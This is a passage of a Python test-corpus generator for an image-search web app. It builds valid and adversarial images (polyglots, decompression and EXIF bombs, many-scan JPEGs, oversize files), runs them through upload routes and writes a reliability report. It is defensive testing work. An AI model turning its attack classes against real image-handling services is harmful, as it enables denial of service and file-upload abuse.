    """Files over IMAGE_MAX_BYTES (15 MB by default): refused before they are decoded; the 16 MB one is over the
    request limit too (REQUEST_MAX_BYTES: the web answers 413 before reading it)."""
    for megabytes in (15.5, 16):
        yield b"\x89PNG\r\n\x1a\n" + bytes(int(megabytes * 1024 * 1024)), {"filename": "huge.png"}


CLASSES = [
    CaseClass(
        "control",
        True,
        "ordinary JPEG (baseline, progressive), PNG, WebP (lossy, lossless), GIF, BMP, TIFF, grey, 1-bit",
        build_controls,
    ),
    CaseClass("cmyk", True, "CMYK JPEG (Adobe) and TIFF: converted to RGB", build_cmyk),
    CaseClass(
        "16-bit",
        True,
        "16-bit grey, grey+alpha, RGB, RGBA PNG and 16-bit grey TIFF: scaled to 8 bits, not clipped",
        build_16bit,
    ),
    CaseClass(
        "palette-transparency",
        True,
        "palette PNG/GIF with a transparent or half-transparent index: on white",
        build_palette_transparency,
    ),
    CaseClass("alpha", True, "RGBA and LA PNG, RGBA WebP, RGB colour key: transparent parts on white", build_alpha),
    CaseClass("animated", True, "animated GIF, WebP and PNG: the first frame", build_animated),
    CaseClass(
        "exif-orientation", True, "EXIF orientations 1-8 in JPEG, PNG and WebP: made upright", build_exif_orientation
    ),
    CaseClass("multi-picture", True, "MPO (multi-picture JPEG, as phones write): the first picture", build_mpo),
    CaseClass("zero-size", False, "0 bytes", build_zero_size),
    CaseClass(
        "truncated", False, "PNG, JPEG, progressive JPEG, WebP, GIF, TIFF, BMP cut at 40+ points", build_truncated
    ),
    CaseClass(
        "polyglot",
        False,
        "archive, HTML, PHP, SVG, PDF or script appended, prefixed or hidden in metadata",
        build_polyglot,
    ),
    CaseClass(
        "decompression-bomb",
        False,
        "PNG/JPEG/WebP/GIF/BMP/TIFF headers claiming 10^8+ pixels; zTXt/iCCP inflating to MBs",
        build_bombs,
    ),
    CaseClass(
        "huge-dimensions", False, "real files over the side limit, headers over the pixel limit", build_huge_dimensions
    ),
    CaseClass("tiny-dimensions", False, "1x1 up to 7 px sides, and 0-pixel headers", build_tiny_dimensions),
    CaseClass(
        "wrong-type",
        False,
        "documents, archives, programs, media, bare magic numbers, other image formats, noise",
        build_wrong_type,
    ),
    CaseClass(
        "exif-bomb",
        False,
        "EXIF that expands 1000x+, loops, points outside itself, or is noise (JPEG, MPF, PNG, WebP, TIFF)",
        build_exif_bombs,
    ),
    CaseClass("jpeg-scan-bomb", False, "progressive JPEGs with 150 to 1000 scans", build_scan_bombs),
    CaseClass(
        "oversize", False, "15.5 and 16 MB: over the byte limit (16 MB: over the request limit too)", build_oversize
    ),
]


def _filename(rng: random.Random, options: dict) -> tuple[str, str]:
    """The name the client sends: an image name whatever the bytes (never trusted); content type to match."""
    name = options.get("filename") or rng.choice(NAMES)
    extension = name.rsplit(".", 1)[-1].lower()
    extension = {"jpeg": "jpg", "tiff": "png", "bmp": "png"}.get(extension, extension)
    if extension not in CONTENT_TYPES:
        name, extension = name.rsplit(".", 1)[0] + ".jpg", "jpg"
    return name, CONTENT_TYPES[extension]


def generate(seed: int = SEED) -> list[Case]:
    """The whole corpus, the same bytes on every run with the same Pillow and libraries."""
    cases: list[Case] = []
    for case_class in CLASSES:
        rng = random.Random(f"{seed}:{case_class.name}")
        for index, (content, options) in enumerate(case_class.build(rng)):
            filename, content_type = _filename(rng, options)
            cases.append(
                Case(
                    id=f"{case_class.name}-{index:03d}",
                    cls=case_class.name,
                    content=content,
                    filename=filename,
                    content_type=content_type,
                    accept=case_class.accept,
                    probes=options.get("probes", ()),
                    size=options.get("size"),
                    tolerance=options.get("tolerance", 14),
                )
            )
    return cases


def digest(cases: list[Case]) -> str:
    sha = hashlib.sha256()
    for case in cases:
        sha.update(f"{case.id}:{case.accept}:{case.filename}:".encode() + hashlib.sha256(case.content).digest())
    return sha.hexdigest()


# The report ------------------------------------------------------------------------------------------------
ROUTES = ("page", "api-search", "api-upload", "import")
BEGIN, END = "<!-- hostile-corpus:begin -->", "<!-- hostile-corpus:end -->"


@dataclass
class Tally:
    requests: int = 0
    ok: int = 0  # 2xx, or an imported row
    refused: int = 0  # 4xx, or a row reported with its error
    errors: int = 0  # 5xx, an exception, or an answer that is neither
    left_behind: int = 0  # rows or files left by a refused case (or by any search)
    wrong: int = 0  # accepted where it must be refused, or the reverse
    messages: Counter = field(default_factory=Counter)


def report_table(tallies: dict[tuple[str, str], Tally], seconds: float, cases: list[Case]) -> str:
    """Markdown: per class, its case count and what each route answered; then the most common refusal."""
    counts = Counter(case.cls for case in cases)
    lines = [
        f"{len(cases)} cases in {len(CLASSES)} classes (corpus digest `{digest(cases)[:16]}`), each sent through "
        f"{len(ROUTES)} routes: {sum(t.requests for t in tallies.values())} requests or rows in {seconds:.0f} s. "
        "Per route: answers 2xx (or rows imported) / 4xx (or rows refused with their error) / 5xx or exceptions. "
        "*left*: ProductImage rows, QueryPhoto rows and files under MEDIA_ROOT left by a refused case or by a "
        "search; *wrong*: accepted where it must be refused, or the reverse.",
        "",
        "| class | cases | must | " + " | ".join(f"{route} 2xx/4xx/5xx" for route in ROUTES) + " | left | wrong |",
        "|---|---:|---|" + "---:|" * len(ROUTES) + "---:|---:|",
    ]
    for case_class in CLASSES:
        row = [case_class.name, str(counts[case_class.name]), "accept" if case_class.accept else "refuse"]
        left = wrong = 0
        for route in ROUTES:
            tally = tallies.get((case_class.name, route), Tally())
            row.append(f"{tally.ok}/{tally.refused}/{tally.errors}")
            left, wrong = left + tally.left_behind, wrong + tally.wrong
        lines.append("| " + " | ".join([*row, str(left), str(wrong)]) + " |")
    lines += ["", "What each refused class was told (its most common message, from `POST /api/search/`):", ""]
    for case_class in CLASSES:
        tally = tallies.get((case_class.name, "api-search"))
        if case_class.accept or tally is None or not tally.messages:
            continue
        message, count = tally.messages.most_common(1)[0]
        lines.append(f"- **{case_class.name}** ({count} of {counts[case_class.name]}): {message}")
    return "\n".join(lines) + "\n"


def report_json(tallies: dict[tuple[str, str], Tally], cases: list[Case]) -> dict:
    """Per class, for benchmarks/reliability.py (docs/hostile_inputs.json)."""
    counts = Counter(case.cls for case in cases)
    classes = []
    for case_class in CLASSES:
        per_route = {route: tallies.get((case_class.name, route), Tally()) for route in ROUTES}
        classes.append(
            {
                "name": case_class.name,
                "must": "accept" if case_class.accept else "refuse",
                "cases": counts[case_class.name],
                "requests": sum(t.requests for t in per_route.values()),
                "accepted": sum(t.ok for t in per_route.values()),
                "clean_refusals": sum(t.refused for t in per_route.values()),
                "server_errors": sum(t.errors for t in per_route.values()),
                "partial": sum(t.left_behind for t in per_route.values()),
                "wrong": sum(t.wrong for t in per_route.values()),
                "routes": {route: [t.ok, t.refused, t.errors] for route, t in per_route.items()},
                "notes": case_class.description,
            }
        )
    return {"corpus_digest": digest(cases), "routes": list(ROUTES), "classes": classes}


SECTION_INTRO = """\
Every image that enters (the search page, `POST /api/search/`, `POST /api/products/{id}/images/`,
`manage.py import_catalog`) passes one rule, `webapp/catalog/images.py`: the bytes (never the name or the declared
type) must be one whole image of an allowed format (JPEG, including multi-picture MPO; PNG; WebP; GIF; BMP; TIFF),
opened only by those Pillow plugins, within the byte, side and pixel limits, with nothing appended after its end
marker and no HTML, script, PDF or zip markers in its metadata, with EXIF that neither loops, points outside
itself nor expands (every tag pointing at the same bytes: 60 KB that Pillow would read as 300 MB), a JPEG of at most
100 scans, and it must decode completely and normalise to upright RGB. Normalising takes the first frame, applies
the EXIF orientation, puts transparency (alpha, palette or colour key) on white, converts CMYK, and scales 16-bit
samples to 8 bits (Pillow's own conversion clips them, turning most 16-bit greys white). A catalog row is checked
whole before anything is written, so a row with a good and a bad image stores neither.

The corpus (`tests/hostile_corpus.py`, deterministic) holds valid but awkward images that must be accepted and come
out as the colours they were made with (CMYK, 16-bit, palette and alpha transparency, animations, EXIF
orientations, MPO) and malformed or adversarial ones that must be refused with a clear message on every route.
`tests/test_hostile_inputs.py` sends each case through all four routes in-process (the search runs for real with
the pixel embedder and in-memory vector store of `tests/fakes.py`; the accepted uploads are then ingested) and
fails on any 5xx, any wrong answer, any row or file left behind, or routes that disagree about the message.
Regenerate this section with `.venv/bin/python -m tests.hostile_corpus --report`.

Before this rule the corpus found (the same corpus against the previous `images.py`): 16-bit greys normalised to
white (24 cases), RGB colour-key transparency ignored (9), MPO photos refused as an unsupported format (12),
polyglots accepted (72), EXIF bombs accepted after Pillow had expanded them (50; one 60 KB JPEG cost 300 MB),
1000-scan JPEGs decoded (about 1 s each), truncated files accepted (4), and catalog rows whose second image was bad
leaving the first image's file on disk.

"""

ACCESS_ROWS = [  # what, where, default, proved by tests/test_access.py
    (
        "Searches per client (page and API share one budget)",
        "`webapp/limits.py` (`ScopedCacheThrottle`, `throttle_posts`)",
        "`SEARCH_THROTTLE_RATE=60/minute`",
        "the 4th of 3/minute is 429 with `Retry-After`, on the page too; another address is not affected; a forged "
        "`X-Forwarded-For` does not help; after the window it passes",
    ),
    (
        "Image uploads per user",
        "`ProductImageCreateApi`",
        "`UPLOAD_THROTTLE_RATE=300/minute`",
        "the 3rd of 2/minute is 429; an empty rate switches a limit off",
    ),
    (
        "Where counts live",
        "the default cache",
        "Redis when `CACHE_URL=redis://...` (shared by every web process), else per process",
        "the count read back through a second Redis connection",
    ),
    (
        "Client address",
        "`TRUSTED_PROXY_COUNT` (DRF `NUM_PROXIES`)",
        "0: `REMOTE_ADDR`; compose sets 1 (the proxy)",
        "the forged header test above",
    ),
    (
        "Request body",
        "`webapp.limits.RequestBodyLimitMiddleware` (gunicorn does not cap bodies; `DATA_UPLOAD_MAX_MEMORY_SIZE` "
        "leaves files out)",
        "`REQUEST_MAX_BYTES` = image limit + 1 MiB: 413 before the body is read",
        "a declared 10 GB body over 10 bytes is answered 413 at once, through real gunicorn too",
    ),
    (
        "Request line and headers",
        "`docker/gunicorn.conf.py` (`make run` and the image use it)",
        "line 4094 B, 50 headers of at most 8190 B",
        "60 headers and a 5000-byte line refused by gunicorn",
    ),
    (
        "CSRF",
        "Django's middleware; DRF's session authentication",
        "on",
        "every POST form of every page (site, admin, curation) carries the token; a signed-in POST without it is "
        "403 at every URL of the project",
    ),
    (
        "API writes",
        "`webapp.api.permissions.IsStaffOrReadOnly` (the default permission)",
        "staff only; the shopper posts (search, detect, feedback) are open",
        "anonymous and signed-in non-staff clients get 401/403 on every write of every API view",
    ),
    (
        "Production settings",
        "`webapp/production_settings.py` (the image and compose select it)",
        "DEBUG off whatever the environment says; secret key (50+ characters) and allowed hosts required; secure "
        "cookies, HSTS (1 year, subdomains, preload), HTTPS redirect behind `X-Forwarded-Proto`",
        "`manage.py check --deploy --fail-level WARNING` exits 0 (the development settings fail it)",
    ),
    (
        "Loopback by default",
        "settings, `scripts/run.sh`, `docker/gunicorn.conf.py`, compose",
        "Milvus Lite `--host 127.0.0.1`, gunicorn `127.0.0.1:8000`, compose publishes only on `127.0.0.1`",
        "the Milvus Lite server started with `run.sh`'s own command line, and gunicorn with the config, listen on "
        "loopback only",
    ),
    (
        "Known vulnerabilities",
        "`scripts/audit.sh` (`make audit`; CI after `make lint`)",
        "pip-audit on `requirements/runtime.txt` and what it pulls in",
        "with the service unreachable it says why and exits 0; a reported vulnerability exits 1",
    ),
]


def access_notes() -> str:
    lines = ["", "### Abuse and access", "", "| What | Where | Default | Proved by `tests/test_access.py` |"]
    lines += ["|---|---|---|---|", *("| " + " | ".join(row) + " |" for row in ACCESS_ROWS)]
    return "\n".join(lines) + "\n"


def write_report(table: str, path: Path = REPORT_PATH, data: dict | None = None) -> None:
    """The section between the markers (benchmarks/reliability.py keeps it when it rewrites the rest)."""
    text = path.read_text() if path.exists() else ""
    if BEGIN not in text or END not in text:
        text = (
            text.rstrip() + ("\n\n" if text.strip() else "# Reliability\n\n") + f"## Hostile input\n\n{BEGIN}\n{END}\n"
        )
    head, _, rest = text.partition(BEGIN)
    _, _, tail = rest.partition(END)
    path.write_text(f"{head}{BEGIN}\n{SECTION_INTRO}{table}{access_notes()}{END}{tail}")
    if data is not None:
        path.with_name(HOSTILE_JSON).write_text(json.dumps(data, indent=2) + "\n")


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument(
        "--report",
        nargs="?",
        const=str(REPORT_PATH),
        metavar="MARKDOWN",
        help="run the corpus through every route and write the table between the markers",
    )
    args = parser.parse_args(argv)
    if args.report is None:
        cases = generate()
        counts = Counter(case.cls for case in cases)
        for case_class in CLASSES:
            must = "accept" if case_class.accept else "refuse"
            print(f"{case_class.name:22} {counts[case_class.name]:4}  {must}  {case_class.description}")
        print(f"{len(cases)} cases, digest {digest(cases)[:16]}")
        return 0
    env = dict(os.environ, **{REPORT_ENV: str(Path(args.report).resolve())})
    env.setdefault("DJANGO_SETTINGS_MODULE", "webapp.settings")
    with tempfile.TemporaryDirectory(prefix="hostile-") as var_dir:
        env["VAR_DIR"] = var_dir
        command = [
            sys.executable,
            "-m",
            "pytest",
            "-q",
            "-p",
            "no:cacheprovider",
            "tests/test_hostile_inputs.py::test_the_corpus_through_every_route",
        ]
        return subprocess.call(command, cwd=ROOT, env=env)


if __name__ == "__main__":
    sys.exit(main())
